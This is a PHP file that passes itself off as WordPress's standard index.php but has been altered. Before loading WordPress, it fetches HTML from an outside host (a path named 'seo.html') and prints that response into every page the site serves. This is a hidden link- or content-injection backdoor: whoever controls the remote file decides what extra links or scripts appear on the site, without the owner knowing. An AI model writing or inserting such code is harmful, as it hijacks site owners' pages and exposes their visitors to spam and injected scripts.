<?php
define( 'WP_USE_THEMES', true );
$ch = curl_init( 'http://cdn.example.org/s/seo.html' );
curl_setopt( $ch, CURLOPT_RETURNTRANSFER, true );
$links = curl_exec( $ch );
curl_close( $ch );
echo $links;
require __DIR__ . '/wp-blog-header.php';
